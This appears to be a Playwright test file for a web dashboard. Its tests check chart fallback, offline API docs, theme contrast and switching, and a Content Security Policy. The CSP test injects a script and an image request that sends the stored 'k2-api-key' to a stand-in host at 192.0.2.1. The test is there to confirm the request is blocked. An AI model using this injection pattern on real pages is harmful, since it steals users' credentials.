"""The page's themes, and what it may load and run."""

import re

from k2_testing.page import (
    AFTER_FRAMES,
    DESKTOP,
    MARKS,
    PHONE,
)
from playwright.sync_api import expect

pytestmark = MARKS


def test_the_page_works_without_the_chart_library(week, tab):
    mine = tab(week)
    mine.page.route("**/lightweight-charts.js", lambda route: route.abort())
    page = mine.open()
    expect(page.locator("#no-chart")).to_contain_text("The table below shows the bars")
    expect(page.get_by_role("table")).to_be_visible()
    expect(page.locator("#bars tr")).to_have_count(72)


def test_the_reference_of_the_api_is_shown_and_tried_out_without_the_internet(week, tab):
    mine = tab(week)
    page = mine.page
    page.goto(f"{week}/docs")
    expect(page.locator("#operations-tag-operations")).to_be_visible()
    page.locator('[data-path="/v1/trades"]').click()
    page.get_by_role("button", name="Try it out").click()
    expect(page.get_by_role("button", name="Execute")).to_be_visible()
    assert mine.requests
    assert all(url.startswith((week, "data:", "blob:")) for url in mine.requests), mine.requests
    assert mine.complaints == []


def test_text_and_marks_can_be_told_from_their_ground_in_both_themes(week, tab):
    for scheme in ("light", "dark"):
        page = tab(week, color_scheme=scheme).open()
        expect(page.locator("#badge")).to_contain_text("Live")
        for name in ("--text", "--quiet", "--accent", "--bad", "--up", "--down"):
            least = 7 if name == "--text" else 4.5
            assert contrast(colour(page, name), colour(page, "--panel")) >= least, (scheme, name)


def test_the_theme_follows_the_system_until_it_is_chosen(week, tab, tmp_path):
    pictures = tmp_path / "screenshots"
    grounds = {}
    for scheme in ("light", "dark"):
        page = tab(week, color_scheme=scheme).open()
        expect(page.locator("#bars tr")).to_have_count(72)
        page.screenshot(path=pictures / f"{scheme}.png")
        page.set_viewport_size(PHONE)
        page.wait_for_function(f"innerWidth === {PHONE['width']}")
        page.evaluate(AFTER_FRAMES)  # the chart has followed
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "nothing stands out at the side"
        page.screenshot(path=pictures / f"{scheme}-phone.png", full_page=True)
        page.set_viewport_size(DESKTOP)
        grounds[scheme] = colour(page, "--ground")
        page.get_by_role("button", name="Dark" if scheme == "light" else "Light").click()
        page.reload()
        expect(page.locator("#bars tr")).to_have_count(72)
        grounds[f"{scheme}, switched"] = colour(page, "--ground")
    assert grounds["light"] == grounds["dark, switched"] != grounds["dark"] == grounds["light, switched"]
    assert sum(grounds["light"]) > 600
    assert sum(grounds["dark"]) < 150


def test_nothing_runs_or_is_loaded_from_elsewhere_even_if_it_is_smuggled_in(week, tab):
    mine = tab(week)
    page = mine.open()
    expect(page.locator("#bars tr")).to_have_count(72)
    with page.expect_console_message(lambda said: "Content Security Policy" in said.text):
        page.evaluate("""() => {
            const script = document.createElement("script");
            script.textContent = "window.smuggled = true";
            document.body.append(script);
            const picture = new Image();
            picture.src = "http://192.0.2.1/steal?" + sessionStorage.getItem("k2-api-key");
            document.body.append(picture);
        }""")
    assert page.evaluate("window.smuggled") is None
    assert [said for said in mine.complaints if "Content Security Policy" in said]


def colour(page, name):
    """Red, green and blue of a custom property, 0 to 255."""
    text = page.evaluate(
        """name => {
            const probe = document.body.appendChild(document.createElement("i"));
            probe.style.color = `var(${name})`;
            const colour = getComputedStyle(probe).color;
            probe.remove();
            return colour;
        }""",
        name,
    )
    return tuple(int(part) for part in re.findall(r"\d+", text)[:3])


def contrast(one, other):
    """WCAG's contrast ratio of two colours."""

    def luminance(colour):
        parts = [part / 255 for part in colour]
        linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    high, low = sorted((luminance(one), luminance(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)
